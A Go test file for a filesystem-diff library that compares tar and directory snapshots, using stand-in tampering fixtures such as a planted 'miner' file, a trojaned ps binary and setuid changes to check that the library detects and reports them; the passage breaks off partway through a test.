@@ -0,0 +1,1433 @@
+package fsdiff_test
+
+import (
+	"archive/tar"
+	"bytes"
+	"context"
+	"crypto/md5"
+	"crypto/sha1"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"testing/fstest"
+	"time"
+
+	"github.com/bindernews/taki/pkg/fsdiff"
+	"golang.org/x/exp/maps"
+	"golang.org/x/exp/slices"
+)
+
+// Simplified tar entry used to build test archives
+type tarEntry struct {
+	Name     string
+	Body     string
+	Link     string
+	HardLink string
+	Type     byte
+	Dev      [2]int64
+	Mode     int64
+	Uid      int
+	ModTime  time.Time
+	Xattrs   map[string]string
+}
+
+// Writes 'entries' to an in-memory tar.
+func writeTar(t *testing.T, entries []tarEntry) *bytes.Buffer {
+	t.Helper()
+	buf := &bytes.Buffer{}
+	tw := tar.NewWriter(buf)
+	for _, e := range entries {
+		hdr := &tar.Header{Name: e.Name, Mode: 0755, Uid: e.Uid, ModTime: e.ModTime, Format: tar.FormatPAX}
+		if e.Mode != 0 {
+			hdr.Mode = e.Mode
+		}
+		for key, value := range e.Xattrs {
+			if hdr.PAXRecords == nil {
+				hdr.PAXRecords = make(map[string]string)
+			}
+			hdr.PAXRecords[fsdiff.PAX_XATTR_PREFIX+key] = value
+		}
+		switch {
+		case e.Type != 0:
+			hdr.Typeflag = e.Type
+			hdr.Devmajor, hdr.Devminor = e.Dev[0], e.Dev[1]
+		case e.HardLink != "":
+			hdr.Typeflag = tar.TypeLink
+			hdr.Linkname = e.HardLink
+		case e.Link != "":
+			hdr.Typeflag = tar.TypeSymlink
+			hdr.Linkname = e.Link
+		case e.Name[len(e.Name)-1] == '/':
+			hdr.Typeflag = tar.TypeDir
+		default:
+			hdr.Typeflag = tar.TypeReg
+			hdr.Size = int64(len(e.Body))
+		}
+		if err := tw.WriteHeader(hdr); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tw.Write([]byte(e.Body)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf
+}
+
+// Builds a DirMeta from an in-memory tar made of 'entries'.
+func buildTarMeta(t *testing.T, entries []tarEntry) *fsdiff.DirMeta {
+	t.Helper()
+	b := fsdiff.NewDirMetaBuilder(fsdiff.NewDirMeta(""))
+	if err := b.AddTar(tar.NewReader(writeTar(t, entries))); err != nil {
+		t.Fatal(err)
+	}
+	if b.HasErrors() {
+		t.Fatalf("unexpected path errors: %v", b.PathErrors)
+	}
+	return b.Root
+}
+
+// Sorts 'got' and reports an error if it doesn't match 'want'.
+func checkPaths(t *testing.T, name string, got, want []string) {
+	t.Helper()
+	slices.Sort(got)
+	if !slices.Equal(got, want) {
+		t.Errorf("%s: got %v, want %v", name, got, want)
+	}
+}
+
+func TestCompareSymlinks(t *testing.T) {
+	base := buildTarMeta(t, []tarEntry{
+		{Name: "bin/"},
+		{Name: "bin/busybox", Body: "busybox"},
+		{Name: "bin/ls", Body: "ls"},
+		{Name: "bin/sh", Link: "busybox"},
+		{Name: "bin/ash", Link: "busybox"},
+	})
+	live := buildTarMeta(t, []tarEntry{
+		{Name: "bin/"},
+		{Name: "bin/busybox", Body: "busybox"},
+		{Name: "bin/ls", Link: "/tmp/evil"},
+		{Name: "bin/sh", Link: "/tmp/evil"},
+		{Name: "bin/vi", Link: "busybox"},
+	})
+	diff := fsdiff.NewFsDiff()
+	if err := diff.Compare(base, live); err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "Added", diff.Added, []string{"bin/vi"})
+	checkPaths(t, "Removed", diff.Removed, []string{"bin/ash"})
+	checkPaths(t, "Modified", diff.Modified, nil)
+	checkPaths(t, "Retargeted", diff.Retargeted, []string{"bin/sh"})
+	checkPaths(t, "TypeChanged", diff.TypeChanged, []string{"bin/ls"})
+}
+
+func TestCompareDirs(t *testing.T) {
+	base := buildTarMeta(t, []tarEntry{
+		{Name: "etc/"},
+		{Name: "etc/cron.d/"},
+		{Name: "var/lib/old/"},
+		{Name: "var/lib/old/data", Body: "data"},
+		{Name: "opt", Body: "opt"},
+		{Name: "srv/"},
+		{Name: "srv/index.html", Body: "index"},
+	})
+	live := buildTarMeta(t, []tarEntry{
+		{Name: "etc/"},
+		{Name: "etc/cron.d/", Mode: 0777},
+		{Name: "var/lib/"},
+		{Name: "tmp/empty/"},
+		{Name: "opt/"},
+		{Name: "opt/miner", Body: "miner"},
+		{Name: "srv", Link: "/tmp"},
+	})
+	diff := fsdiff.NewFsDiff()
+	if err := diff.Compare(base, live); err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "AddedDirs", diff.AddedDirs, []string{"tmp", "tmp/empty"})
+	checkPaths(t, "RemovedDirs", diff.RemovedDirs, []string{"var/lib/old"})
+	checkPaths(t, "MetaModifiedDirs", diff.MetaModifiedDirs, []string{"etc/cron.d"})
+	checkPaths(t, "TypeChanged", diff.TypeChanged, []string{"opt", "srv"})
+	checkPaths(t, "Added", diff.Added, []string{"opt/miner"})
+	checkPaths(t, "Removed", diff.Removed, []string{"srv/index.html", "var/lib/old/data"})
+	// Only the symlink is collected, not the new directory
+	checkPaths(t, "GetAddedModified", diff.GetAddedModified(), []string{"opt/miner", "srv"})
+}
+
+func TestCompareMetadata(t *testing.T) {
+	base := buildTarMeta(t, []tarEntry{
+		{Name: "bin/ping", Body: "ping"},
+		{Name: "bin/mount", Body: "mount"},
+		{Name: "bin/su", Body: "su"},
+		{Name: "bin/cat", Body: "cat"},
+	})
+	live := buildTarMeta(t, []tarEntry{
+		{Name: "bin/ping", Body: "ping", Xattrs: map[string]string{"security.capability": "\x01"}},
+		{Name: "bin/mount", Body: "mount", Mode: 04755},
+		{Name: "bin/su", Body: "su", Uid: 1000},
+		{Name: "bin/cat", Body: "evil", Uid: 1000},
+	})
+	diff := fsdiff.NewFsDiff()
+	if err := diff.Compare(base, live); err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "Modified", diff.Modified, []string{"bin/cat"})
+	checkPaths(t, "MetaModified", diff.MetaModified, []string{"bin/mount", "bin/ping", "bin/su"})
+}
+
+func TestAddLayers(t *testing.T) {
+	layers := [][]tarEntry{
+		{
+			{Name: "etc/"},
+			{Name: "etc/passwd", Body: "root"},
+			{Name: "etc/shadow", Body: "root"},
+			{Name: "var/cache/"},
+			{Name: "var/cache/a", Body: "a"},
+			{Name: "var/cache/sub/b", Body: "b"},
+			{Name: "bin/busybox", Body: "busybox"},
+			{Name: "bin/sh", HardLink: "bin/busybox"},
+		},
+		{
+			{Name: "etc/.wh.shadow"},
+			// The target is in a lower layer
+			{Name: "bin/ls", HardLink: "bin/busybox"},
+			{Name: "etc/passwd", Body: "root,user"},
+			{Name: "var/cache/c", Body: "c"},
+			{Name: "var/cache/.wh..wh..opq"},
+		},
+	}
+	b := fsdiff.NewDirMetaBuilder(fsdiff.NewDirMeta(""))
+	for _, layer := range layers {
+		if err := b.AddLayer(tar.NewReader(writeTar(t, layer))); err != nil {
+			t.Fatal(err)
+		}
+	}
+	want := buildTarMeta(t, []tarEntry{
+		{Name: "etc/"},
+		{Name: "etc/passwd", Body: "root,user"},
+		{Name: "var/cache/"},
+		{Name: "var/cache/c", Body: "c"},
+		{Name: "bin/busybox", Body: "busybox"},
+		{Name: "bin/sh", HardLink: "bin/busybox"},
+		{Name: "bin/ls", HardLink: "bin/busybox"},
+	})
+	diff := fsdiff.NewFsDiff()
+	if err := diff.Compare(want, b.Root); err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "Added", diff.Added, nil)
+	checkPaths(t, "Removed", diff.Removed, nil)
+	checkPaths(t, "Modified", diff.Modified, nil)
+	if b.HasErrors() {
+		t.Errorf("unexpected path errors: %v", b.PathErrors)
+	}
+	target := b.Root.GetFile("bin/busybox")
+	for _, fpath := range []string{"bin/sh", "bin/ls"} {
+		fm := b.Root.GetFile(fpath)
+		if fm.Size != target.Size || fm.Hash != target.Hash || fm.HardLink != "bin/busybox" {
+			t.Errorf("%s: got size %d hash %s link '%s', expected the contents of bin/busybox", fpath, fm.Size, fm.Hash, fm.HardLink)
+		}
+	}
+}
+
+func TestDirMetaFile(t *testing.T) {
+	orig := buildTarMeta(t, []tarEntry{
+		{Name: "etc/"},
+		{Name: "etc/passwd", Body: "root", Uid: 1},
+		{Name: "bin/ping", Body: "ping", Xattrs: map[string]string{"security.capability": "\x01"}},
+		{Name: "bin/sh", Link: "busybox"},
+		{Name: "empty/"},
+	})
+	buf := &bytes.Buffer{}
+	if err := fsdiff.WriteDirMeta(buf, orig); err != nil {
+		t.Fatal(err)
+	}
+	loaded, err := fsdiff.ReadDirMeta(buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	diff := fsdiff.NewFsDiff()
+	if err := diff.Compare(orig, loaded); err != nil {
+		t.Fatal(err)
+	}
+	all := append(diff.GetAddedModified(), diff.Removed...)
+	checkPaths(t, "changes", append(all, diff.MetaModified...), nil)
+	// Decoded trees must still be modifiable
+	loaded.MakeDir("empty/sub")
+
+	if _, err := fsdiff.ReadDirMeta(bytes.NewBufferString("not a meta file")); !errors.Is(err, fsdiff.ErrNotMetaFile) {
+		t.Errorf("expected ErrNotMetaFile, got %v", err)
+	}
+}
+
+// Writes each file in 'files' (path to contents) under 'root'.
+func writeFiles(t *testing.T, root string, files map[string]string) {
+	t.Helper()
+	for name, body := range files {
+		fpath := filepath.Join(root, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(fpath), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(fpath, []byte(body), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func TestStreamCompareFs(t *testing.T) {
+	root := t.TempDir()
+	writeFiles(t, root, map[string]string{
+		"etc/passwd":   "root",
+		"etc/hosts":    "localhost",
+		"usr/bin/ls":   "ls",
+		"var/log/a":    "a",
+		"proc/ignored": "x",
+	})
+	b := fsdiff.NewDirMetaBuilder(fsdiff.NewDirMeta(""))
+	b.Workers = 4
+	if err := b.AddFs(fsdiff.NewOsFS(root)); err != nil {
+		t.Fatal(err)
+	}
+	base := b.Root
+
+	writeFiles(t, root, map[string]string{
+		"etc/passwd":   "root,evil",
+		"tmp/x/miner":  "miner",
+		"proc/ignored": "y",
+	})
+	if err := os.RemoveAll(filepath.Join(root, "var")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("/tmp/x/miner", filepath.Join(root, "usr/bin/top")); err != nil {
+		t.Fatal(err)
+	}
+
+	lb := fsdiff.NewDirMetaBuilder(nil)
+	lb.Excludes = []string{"proc"}
+	lb.Workers = 4
+	lb.MaxIO = 2
+	entryC, errC := fsdiff.StreamCompareFs(context.Background(), base, fsdiff.NewOsFS(root), lb)
+	diff := fsdiff.NewFsDiff()
+	for e := range entryC {
+		diff.Add(e)
+	}
+	if err := <-errC; err != nil {
+		t.Fatal(err)
+	}
+	if lb.HasErrors() {
+		t.Fatalf("unexpected path errors: %v", lb.PathErrors)
+	}
+	checkPaths(t, "Added", diff.Added, []string{"tmp/x/miner", "usr/bin/top"})
+	checkPaths(t, "Removed", diff.Removed, []string{"var/log/a"})
+	checkPaths(t, "Modified", diff.Modified, []string{"etc/passwd"})
+	for _, e := range diff.Entries {
+		if e.Path == "usr/bin/top" && e.New.Link != "/tmp/x/miner" {
+			t.Errorf("wrong link target %q", e.New.Link)
+		}
+	}
+}
+
+func TestDigests(t *testing.T) {
+	algos, err := fsdiff.ParseHashAlgos("md5, SHA1,sha256")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b := fsdiff.NewDirMetaBuilder(fsdiff.NewDirMeta(""))
+	b.Digests = algos
+	if err := b.AddTar(tar.NewReader(writeTar(t, []tarEntry{{Name: "abc", Body: "abc"}}))); err != nil {
+		t.Fatal(err)
+	}
+	fm := b.Root.GetFile("abc")
+	want := map[fsdiff.HashAlgo]string{
+		fsdiff.MD5:    "900150983cd24fb0d6963f7d28e17f72",
+		fsdiff.SHA1:   "a9993e364706816aba3e25717850c26c9cd0d89d",
+		fsdiff.SHA256: "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
+	}
+	for algo, digest := range want {
+		if got := fm.Digest(algo); got != digest {
+			t.Errorf("%s: got %s, want %s", algo, got, digest)
+		}
+	}
+
+	// Comparing only computes them for files that differ from the base
+	root := t.TempDir()
+	writeFiles(t, root, map[string]string{"abc": "abc", "new": "new", "same": "same"})
+	base := buildTarMeta(t, []tarEntry{{Name: "abc", Body: "xyz"}, {Name: "same", Body: "same"}})
+	lb := fsdiff.NewDirMetaBuilder(nil)
+	lb.Digests = algos
+	diff := fsdiff.NewFsDiff()
+	if err := fsdiff.CompareFs(base, fsdiff.NewOsFS(root), lb, diff.Add); err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range diff.Entries {
+		changed := e.Kind == fsdiff.Added || e.Kind == fsdiff.Modified
+		if hasMd5 := e.New.Digest(fsdiff.MD5) != ""; hasMd5 != changed {
+			t.Errorf("%s (%s): has md5 %v", e.Path, e.Kind, hasMd5)
+		}
+	}
+	checkPaths(t, "Modified", diff.Modified, []string{"abc"})
+	checkPaths(t, "Added", diff.Added, []string{"new"})
+	if _, err := fsdiff.ParseHashAlgos("crc32"); err == nil {
+		t.Error("expected error for unsupported algorithm")
+	}
+}
+
+func TestFastCompare(t *testing.T) {
+	root := t.TempDir()
+	writeFiles(t, root, map[string]string{
+		"etc/passwd": "root",
+		"etc/hosts":  "localhost",
+	})
+	b := fsdiff.NewDirMetaBuilder(fsdiff.NewDirMeta(""))
+	if err := b.AddFs(fsdiff.NewOsFS(root)); err != nil {
+		t.Fatal(err)
+	}
+
+	// Same size and modification time, so fast mode assumes it's unchanged
+	hostsPath := filepath.Join(root, "etc/hosts")
+	info, err := os.Stat(hostsPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	writeFiles(t, root, map[string]string{
+		"etc/passwd": "root,evil",
+		"etc/hosts":  "evilhost1",
+	})
+	if err := os.Chtimes(hostsPath, info.ModTime(), info.ModTime()); err != nil {
+		t.Fatal(err)
+	}
+
+	var unhashed bytes.Buffer
+	lb := fsdiff.NewDirMetaBuilder(nil)
+	lb.Fast = true
+	lb.UnhashedList = &unhashed
+	diff := fsdiff.NewFsDiff()
+	if err := fsdiff.CompareFs(b.Root, fsdiff.NewOsFS(root), lb, diff.Add); err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "Modified", diff.Modified, []string{"etc/passwd"})
+	checkPaths(t, "Unhashed", strings.Fields(unhashed.String()), []string{"etc/hosts"})
+	if lb.UnhashedCount != 1 {
+		t.Errorf("expected 1 unhashed file, got %d", lb.UnhashedCount)
+	}
+}
+
+func TestRules(t *testing.T) {
+	rules, err := fsdiff.ParseRules(bytes.NewBufferString(`
+# comment
+/proc/**
+**/__pycache__
+*.log size>1K
+!/var/log/keep.log
+cache/
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	file := &fsdiff.FileMeta{Size: 10}
+	bigFile := &fsdiff.FileMeta{Size: 4096}
+	dir := &fsdiff.FileMeta{Mode: fs.ModeDir}
+	tests := []struct {
+		path string
+		fm   *fsdiff.FileMeta
+		want bool
+	}{
+		{"proc/1/environ", file, true},
+		{"proc", dir, false},
+		{"usr/lib/python3/__pycache__", dir, true},
+		{"__pycache__", dir, true},
+		{"var/log/app.log", bigFile, true},
+		{"var/log/app.log", file, false},
+		{"var/log/keep.log", bigFile, false},
+		{"var/cache", dir, true},
+		{"var/cache", file, false},
+		{"etc/passwd", file, false},
+	}
+	for _, tt := range tests {
+		if got := rules.Excluded(tt.path, tt.fm); got != tt.want {
+			t.Errorf("Excluded(%q) = %v, want %v", tt.path, got, tt.want)
+		}
+	}
+	// Only paths excluded whatever their metadata is are excluded by path alone
+	for p, want := range map[string]bool{"proc/1/environ": true, "var/log/app.log": false, "var/cache": false} {
+		if got := rules.PathExcluded(p); got != want {
+			t.Errorf("PathExcluded(%q) = %v, want %v", p, got, want)
+		}
+	}
+	for _, bad := range []string{"a size~1", "a type=x", "a[b", "a owner=root"} {
+		if _, err := fsdiff.ParseRuleLines([]string{bad}); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestCompareFsRules(t *testing.T) {
+	root := t.TempDir()
+	writeFiles(t, root, map[string]string{
+		"app/main.py":              "main",
+		"app/__pycache__/main.pyc": "pyc",
+		"var/log/app.log":          "small",
+		"var/log/big.log":          string(bytes.Repeat([]byte("x"), 2048)),
+	})
+	b := fsdiff.NewDirMetaBuilder(fsdiff.NewDirMeta(""))
+	if err := b.AddFs(fsdiff.NewOsFS(root)); err != nil {
+		t.Fatal(err)
+	}
+	base := b.Root
+
+	writeFiles(t, root, map[string]string{
+		"app/__pycache__/evil.pyc": "evil",
+		"var/log/app.log":          string(bytes.Repeat([]byte("x"), 2048)),
+		"var/log/new.log":          "new",
+		"var/log/big.log":          "truncated",
+	})
+	rules, err := fsdiff.ParseRuleLines([]string{"**/__pycache__", "*.log size>1K"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	lb := fsdiff.NewDirMetaBuilder(nil)
+	lb.Rules = rules
+	diff := fsdiff.NewFsDiff()
+	if err := fsdiff.CompareFs(rules.Filter(base), fsdiff.NewOsFS(root), lb, diff.Add); err != nil {
+		t.Fatal(err)
+	}
+	// The grown log is excluded on the live side only and must not look removed, and
+	// the truncated one on the base side only and must not look added
+	checkPaths(t, "Added", diff.Added, []string{"var/log/new.log"})
+	checkPaths(t, "Removed", diff.Removed, nil)
+	checkPaths(t, "Modified", diff.Modified, nil)
+}
+
+func TestHardLinks(t *testing.T) {
+	base := buildTarMeta(t, []tarEntry{
+		{Name: "bin/busybox", Body: "busybox"},
+		{Name: "bin/sh", HardLink: "bin/busybox"},
+	})
+	if fm := base.GetFile("bin/sh"); fm.HardLink != "bin/busybox" || fm.Size != int64(len("busybox")) {
+		t.Errorf("tar hard link not resolved: %+v", fm)
+	}
+
+	root := t.TempDir()
+	writeFiles(t, root, map[string]string{"bin/busybox": "busybox"})
+	if err := os.Link(filepath.Join(root, "bin/busybox"), filepath.Join(root, "bin/sh")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Link(filepath.Join(root, "bin/busybox"), filepath.Join(root, "bin/vi")); err != nil {
+		t.Fatal(err)
+	}
+	b := fsdiff.NewDirMetaBuilder(nil)
+	diff := fsdiff.NewFsDiff()
+	if err := fsdiff.CompareFs(base, fsdiff.NewOsFS(root), b, diff.Add); err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "Added", diff.Added, []string{"bin/vi"})
+	checkPaths(t, "Modified", diff.Modified, nil)
+	for _, e := range diff.Entries {
+		if e.Path == "bin/vi" && e.New.HardLink != "bin/busybox" {
+			t.Errorf("live hard link not grouped: %+v", e.New)
+		}
+	}
+	if !b.MatchedLink("bin/busybox") {
+		t.Errorf("hashed and unchanged target isn't matched")
+	}
+
+	// The target's contents aren't known to match if it wasn't hashed or compared
+	lb := fsdiff.NewDirMetaBuilder(fsdiff.NewDirMeta(""))
+	if err := lb.AddFs(fsdiff.NewOsFS(root)); err != nil {
+		t.Fatal(err)
+	}
+	fast := fsdiff.NewDirMetaBuilder(nil)
+	fast.Fast = true
+	if err := fsdiff.CompareFs(lb.Root, fsdiff.NewOsFS(root), fast, fsdiff.NewFsDiff().Add); err != nil {
+		t.Fatal(err)
+	}
+	if fast.UnhashedCount == 0 || fast.MatchedLink("bin/busybox") {
+		t.Errorf("unhashed target is matched")
+	}
+	rules, err := fsdiff.ParseRuleLines([]string{"bin/busybox"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	excluding := fsdiff.NewDirMetaBuilder(nil)
+	excluding.Rules = rules
+	if err := fsdiff.CompareFs(base, fsdiff.NewOsFS(root), excluding, fsdiff.NewFsDiff().Add); err != nil {
+		t.Fatal(err)
+	}
+	if excluding.MatchedLink("bin/busybox") {
+		t.Errorf("excluded target is matched")
+	}
+}
+
+func TestSpecialFiles(t *testing.T) {
+	base := buildTarMeta(t, []tarEntry{
+		{Name: "dev/null", Type: tar.TypeChar, Dev: [2]int64{1, 3}},
+		{Name: "dev/sda", Type: tar.TypeBlock, Dev: [2]int64{8, 0}},
+		{Name: "run/old.sock", Type: tar.TypeFifo},
+	})
+	live := buildTarMeta(t, []tarEntry{
+		{Name: "dev/null", Type: tar.TypeChar, Dev: [2]int64{1, 3}},
+		{Name: "dev/sda", Type: tar.TypeBlock, Dev: [2]int64{8, 1}},
+		{Name: "tmp/mem", Type: tar.TypeChar, Dev: [2]int64{1, 1}},
+		{Name: "tmp/pipe", Type: tar.TypeFifo},
+	})
+	diff := fsdiff.NewFsDiff()
+	if err := diff.Compare(base, live); err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "AddedSpecial", diff.AddedSpecial, []string{"tmp/mem", "tmp/pipe"})
+	checkPaths(t, "RemovedSpecial", diff.RemovedSpecial, []string{"run/old.sock"})
+	checkPaths(t, "ModifiedSpecial", diff.ModifiedSpecial, []string{"dev/sda"})
+	checkPaths(t, "GetAddedModified", diff.GetAddedModified(), nil)
+	if typ := live.GetFile("tmp/mem").Type(); typ != fsdiff.TypeCharDevice {
+		t.Errorf("wrong type %s", typ)
+	}
+
+	// Special files replacing empty ones are never opened, even when digests make
+	// files that may match the base be read twice. Reading a FIFO would block.
+	base = buildTarMeta(t, []tarEntry{{Name: "run/pipe"}, {Name: "run/null"}})
+	fsys := &countingFS{FS: fstest.MapFS{
+		"run/pipe": {Mode: fs.ModeNamedPipe | 0644},
+		"run/null": {Mode: fs.ModeDevice | fs.ModeCharDevice | 0666},
+	}, opens: make(map[string]int)}
+	lb := fsdiff.NewDirMetaBuilder(nil)
+	lb.Digests = []fsdiff.HashAlgo{fsdiff.MD5, fsdiff.SHA1}
+	diff = fsdiff.NewFsDiff()
+	if err := fsdiff.CompareFs(base, fsys, lb, diff.Add); err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "TypeChanged", diff.TypeChanged, []string{"run/null", "run/pipe"})
+	for _, fpath := range []string{"run/pipe", "run/null"} {
+		if n := fsys.opens[fpath]; n != 0 {
+			t.Errorf("%s was opened %d times", fpath, n)
+		}
+	}
+}
+
+func TestExport(t *testing.T) {
+	base := buildTarMeta(t, []tarEntry{
+		{Name: "bin/"},
+		{Name: "bin/su", Body: "su"},
+		{Name: "bin/old", Body: "old"},
+	})
+	live := buildTarMeta(t, []tarEntry{
+		{Name: "bin/"},
+		{Name: "bin/su", Body: "su", Mode: 04755},
+		{Name: "bin/a|b", Link: "su"},
+	})
+	diff := fsdiff.NewFsDiff()
+	if err := diff.Compare(base, live); err != nil {
+		t.Fatal(err)
+	}
+
+	buf := &bytes.Buffer{}
+	if err := fsdiff.WriteBodyfile(buf, diff); err != nil {
+		t.Fatal(err)
+	}
+	want := "0|/bin/a\\x7cb -> su|0|lrwxr-xr-x|0|0|0|0|0|0|0\n" +
+		"0|/bin/old (deleted)|0|-rwxr-xr-x|0|0|3|0|0|0|0\n" +
+		"0|/bin/su|0|-rwsr-xr-x|0|0|2|0|0|0|0\n"
+	if buf.String() != want {
+		t.Errorf("bodyfile: got\n%s\nwant\n%s", buf.String(), want)
+	}
+
+	buf.Reset()
+	if err := fsdiff.WriteJSONL(buf, diff); err != nil {
+		t.Fatal(err)
+	}
+	var rec struct {
+		Path   string
+		Change string
+		New    struct{ Mode string }
+	}
+	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
+	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &rec); err != nil {
+		t.Fatal(err)
+	}
+	if rec.Path != "bin/su" || rec.Change != "meta-modified" || rec.New.Mode != "4755" {
+		t.Errorf("unexpected JSON record %+v", rec)
+	}
+
+	buf.Reset()
+	if err := fsdiff.WriteCSV(buf, diff); err != nil {
+		t.Fatal(err)
+	}
+	if rows := strings.Count(buf.String(), "\n"); rows != 4 {
+		t.Errorf("expected a header and 3 rows, got %d lines", rows)
+	}
+}
+
+func TestDetectMoves(t *testing.T) {
+	base := buildTarMeta(t, []tarEntry{
+		{Name: "usr/bin/ps", Body: "ps"},
+		{Name: "usr/bin/top", Body: "top"},
+		{Name: "usr/bin/ls", Body: "ls"},
+		{Name: "etc/empty", Body: ""},
+	})
+	live := buildTarMeta(t, []tarEntry{
+		{Name: "usr/bin/ps", Body: "trojan"},
+		{Name: "usr/bin/.ps.orig", Body: "ps"},
+		{Name: "usr/bin/ls", Body: "ls"},
+		{Name: "tmp/top", Body: "top"},
+		{Name: "tmp/ls", Body: "ls"},
+		{Name: "tmp/empty", Body: ""},
+		{Name: "etc/empty", Body: ""},
+	})
+	diff := fsdiff.NewFsDiff()
+	if err := diff.Compare(base, live); err != nil {
+		t.Fatal(err)
+	}
+	// Fields other than the per-kind lists are kept
+	diff.KnownBad = []string{"usr/bin/ps"}
+	// A compact base finds the same sources
+	compacted := fsdiff.NewFsDiff()
+	if err := compacted.Compare(base, live); err != nil {
+		t.Fatal(err)
+	}
+	diff.DetectMoves(base)
+	compacted.DetectMoves(fsdiff.NewCompactTree(base))
+	checkPaths(t, "KnownBad", diff.KnownBad, []string{"usr/bin/ps"})
+	for _, d := range []*fsdiff.FsDiff{diff, compacted} {
+		checkPaths(t, "Added", d.Added, []string{"tmp/empty"})
+		checkPaths(t, "Removed", d.Removed, nil)
+		checkPaths(t, "Modified", d.Modified, []string{"usr/bin/ps"})
+		checkPaths(t, "Moved", d.Moved, []string{"tmp/top", "usr/bin/.ps.orig"})
+		checkPaths(t, "Copied", d.Copied, []string{"tmp/ls"})
+		for _, e := range d.Entries {
+			if e.Path == "usr/bin/.ps.orig" && e.Source != "usr/bin/ps" {
+				t.Errorf("wrong source %q for %s", e.Source, e.Path)
+			}
+			if e.Path == "tmp/ls" && (e.Source != "usr/bin/ls" || e.Old == nil || e.Old.Hash != e.New.Hash) {
+				t.Errorf("wrong source %q for %s", e.Source, e.Path)
+			}
+		}
+	}
+}
+
+func TestPartialBase(t *testing.T) {
+	root := t.TempDir()
+	writeFiles(t, root, map[string]string{
+		"usr/lib/a":       "a",
+		"usr/lib/b":       "b",
+		"usr/share/doc/c": "c",
+		"etc/passwd":      "root",
+		"var/log/x":       "x",
+	})
+	b := fsdiff.NewDirMetaBuilder(fsdiff.NewDirMeta(""))
+	if err := b.AddFs(fsdiff.NewOsFS(root)); err != nil {
+		t.Fatal(err)
+	}
+	base := b.Root
+	base.UpdateTreeHash()
+
+	writeFiles(t, root, map[string]string{
+		"usr/lib/b":  "evil",
+		"etc/passwd": "root,evil",
+	})
+	if err := os.RemoveAll(filepath.Join(root, "var")); err != nil {
+		t.Fatal(err)
+	}
+
+	fsys := fsdiff.NewOsFS(root)
+	compact := fsdiff.NewCompactTree(base)
+	for _, packed := range []bool{false, true} {
+		lb := fsdiff.NewDirMetaBuilder(nil)
+		diff := fsdiff.NewFsDiff()
+		compareAt := func(fpath string) error {
+			if packed {
+				return fsdiff.CompareCompactFsAt(compact.Subtree(fpath).Truncate(1), fsys, fpath, lb, diff.Add)
+			}
+			return fsdiff.CompareFsAt(base.GetDir(fpath).Truncate(1), fsys, fpath, lb, diff.Add)
+		}
+		if err := compareAt("."); err != nil {
+			t.Fatal(err)
+		}
+		var sent []string
+		for len(lb.Pending) > 0 {
+			fpath := lb.Pending[0]
+			sent = append(sent, fpath)
+			lb.Pending = lb.Pending[1:]
+			if err := compareAt(fpath); err != nil {
+				t.Fatal(err)
+			}
+		}
+		// usr/share is unchanged and never needs to be sent
+		checkPaths(t, "sent", sent, []string{"etc", "usr", "usr/lib", "var", "var/log"})
+		checkPaths(t, "Modified", diff.Modified, []string{"etc/passwd", "usr/lib/b"})
+		checkPaths(t, "Removed", diff.Removed, []string{"var/log/x"})
+		checkPaths(t, "RemovedDirs", diff.RemovedDirs, []string{"var", "var/log"})
+	}
+}
+
+// Counts how often each file is opened
+type countingFS struct {
+	fs.FS
+	lck   sync.Mutex
+	opens map[string]int
+}
+
+func (c *countingFS) Open(name string) (fs.File, error) {
+	c.lck.Lock()
+	c.opens[name]++
+	c.lck.Unlock()
+	return c.FS.Open(name)
+}
+
+func TestProbeSubtree(t *testing.T) {
+	root := t.TempDir()
+	writeFiles(t, root, map[string]string{
+		"usr/lib/a":       "a",
+		"usr/share/doc/c": "c",
+		"opt/app/bin":     "bin",
+	})
+	fsys := &countingFS{FS: fsdiff.NewOsFS(root), opens: make(map[string]int)}
+	b := fsdiff.NewDirMetaBuilder(fsdiff.NewDirMeta(""))
+	if err := b.AddFs(fsys); err != nil {
+		t.Fatal(err)
+	}
+	base := b.Root
+	base.UpdateTreeHash()
+
+	// New hard links in a directory that doesn't match, and a file whose contents
+	// changed without changing its size or modification time
+	writeFiles(t, root, map[string]string{"opt/app/lib": "lib"})
+	if err := os.Link(filepath.Join(root, "opt/app/lib"), filepath.Join(root, "opt/app/lib.1")); err != nil {
+		t.Fatal(err)
+	}
+	docPath := filepath.Join(root, "usr/share/doc/c")
+	info, err := os.Stat(docPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	writeFiles(t, root, map[string]string{"usr/share/doc/c": "C"})
+	if err := os.Chtimes(docPath, info.ModTime(), info.ModTime()); err != nil {
+		t.Fatal(err)
+	}
+
+	for _, fast := range []bool{false, true} {
+		fsys.opens = make(map[string]int)
+		var unhashed bytes.Buffer
+		lb := fsdiff.NewDirMetaBuilder(nil)
+		lb.Fast = fast
+		lb.UnhashedList = &unhashed
+		diff := fsdiff.NewFsDiff()
+		if err := fsdiff.CompareFs(base.Truncate(1), fsys, lb, diff.Add); err != nil {
+			t.Fatal(err)
